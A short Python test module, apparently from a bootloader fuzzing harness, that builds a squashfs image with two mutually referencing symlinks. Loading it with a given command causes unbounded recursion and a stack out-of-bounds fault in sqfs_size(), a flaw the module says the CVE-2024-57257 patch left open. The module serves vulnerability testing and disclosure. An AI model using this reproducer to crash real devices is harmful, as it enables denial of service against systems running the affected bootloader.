# SPDX-License-Identifier: MIT
"""Open in the patched source: sqfs_size() still follows symbolic links without a limit.

The patch for CVE-2024-57257 counts in sqfs_size_nest(), but that function goes on by calling sqfs_size(),
which sets the count to 0. Every level takes 128 bytes of stack and 17 KiB of heap, so with the port's sizes
both run out at about the same time.
"""

from . import squashfs

FUNCTION = "sqfs_size"
TYPES = ("stack-out-of-bounds",)
COMMANDS = ("sqfsload virtio 0 0x44000000 /ping",)


def image():
    root = squashfs.Dir("", [squashfs.Symlink("ping", b"pong"), squashfs.Symlink("pong", b"ping")])
    return squashfs.Writer(root).image()
